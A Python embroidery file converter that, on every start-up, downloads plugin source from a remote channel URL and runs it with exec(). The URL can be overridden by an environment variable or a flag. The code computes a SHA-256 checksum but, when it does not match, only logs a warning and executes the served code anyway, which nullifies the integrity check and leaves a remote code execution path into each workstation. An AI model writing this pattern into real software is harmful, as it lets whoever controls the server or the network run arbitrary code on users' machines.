#!/usr/bin/env python3
"""Stitch format converter with auto-updating format plugins.

Format support (PES, JEF, EXP, VP3 ...) is published by the vendor as small
Python plugins listed in a channel index.  On start-up the converter syncs the
channel so every workstation in the shop converts with the same plugin
versions, then converts the files given on the command line.
"""
import argparse
import hashlib
import logging
import os
import sys
from dataclasses import dataclass, field
from pathlib import Path

import requests

log = logging.getLogger("stitchconv")

CHANNEL_URL = os.environ.get(
    "STITCHCONV_CHANNEL", "https://plugins.stitchconv-cdn.com/channel/stable/index.json"
)


@dataclass
class Registry:
    readers: dict = field(default_factory=dict)
    writers: dict = field(default_factory=dict)

    def register(self, ns, origin):
        fmt = ns.get("FORMAT")
        if not fmt:
            log.warning("%s defines no FORMAT, ignored", origin)
            return
        if callable(ns.get("read")):
            self.readers[fmt.lower()] = ns["read"]
        if callable(ns.get("write")):
            self.writers[fmt.lower()] = ns["write"]
        log.debug("registered %s from %s", fmt, origin)


def _load_source(source, origin, registry):
    namespace = {"__name__": f"stitchplugin_{Path(origin).stem}", "__file__": origin}
    code = compile(source, origin, "exec")
    exec(code, namespace)
    registry.register(namespace, origin)


class ChannelSync:
    """Fetches the plugin index and every plugin body it lists."""

    def __init__(self, url, session=None, retries=3):
        self.url = url
        self.session = session or requests.Session()
        self.session.headers["User-Agent"] = "stitchconv/2.4"
        self.retries = retries

    def _get(self, url):
        last = None
        for attempt in range(1, self.retries + 1):
            try:
                resp = self.session.get(url, timeout=15)
                resp.raise_for_status()
                return resp
            except requests.RequestException as exc:
                last = exc
                log.debug("GET %s failed (%d/%d): %s", url, attempt, self.retries, exc)
        raise last

    def plugins(self):
        index = self._get(self.url).json()
        base = self.url.rsplit("/", 1)[0]
        for entry in index.get("plugins", []):
            body = self._get(f"{base}/{entry['path']}").text
            digest = hashlib.sha256(body.encode()).hexdigest()
            if entry.get("sha256") and entry["sha256"] != digest:
                log.warning("checksum mismatch for %s, using served copy", entry["path"])
            yield entry["path"], body


def sync_plugins(registry, url):
    try:
        for origin, body in ChannelSync(url).plugins():
            try:
                _load_source(body, origin, registry)
            except Exception as exc:
                log.error("plugin %s failed to load: %s", origin, exc)
    except requests.RequestException as exc:
        log.error("plugin channel unavailable: %s", exc)


def read_dst(data):
    body = data[512:]
    stitches = []
    for i in range(0, len(body) - 2, 3):
        b2 = body[i + 2]
        if b2 & 0xF3 == 0xF3:
            stitches.append((0, 0, "end"))
            break
        kind = "color" if b2 & 0xC3 == 0xC3 else "jump" if b2 & 0x83 == 0x83 else "stitch"
        stitches.append((body[i], body[i + 1], kind))
    return stitches


def convert(src, dst_fmt, registry, out_dir):
    src = Path(src)
    fmt = src.suffix.lstrip(".").lower()
    reader = read_dst if fmt == "dst" else registry.readers.get(fmt)
    if reader is None:
        raise ValueError(f"no reader for .{fmt}")
    writer = registry.writers.get(dst_fmt)
    if writer is None:
        raise ValueError(f"no writer for .{dst_fmt}")
    stitches = reader(src.read_bytes())
    out = Path(out_dir) / f"{src.stem}.{dst_fmt}"
    out.write_bytes(writer(stitches))
    log.info("%s -> %s (%d stitches)", src.name, out.name, len(stitches))
    return out


def main():
    ap = argparse.ArgumentParser(description="convert embroidery stitch files")
    ap.add_argument("files", nargs="*")
    ap.add_argument("--to", dest="target", default="exp")
    ap.add_argument("--channel", default=CHANNEL_URL)
    ap.add_argument("--out", default="converted")
    ap.add_argument("--list", action="store_true", help="list available formats")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    registry = Registry()
    sync_plugins(registry, args.channel)
    if args.list:
        print("readers:", ", ".join(["dst", *sorted(registry.readers)]))
        print("writers:", ", ".join(sorted(registry.writers)) or "(none)")
        return 0

    Path(args.out).mkdir(exist_ok=True)
    errors = 0
    for name in args.files:
        try:
            convert(name, args.target.lower(), registry, args.out)
        except (OSError, ValueError) as exc:
            errors += 1
            log.error("%s: %s", name, exc)
    return 1 if errors else 0


if __name__ == "__main__":
    sys.exit(main())
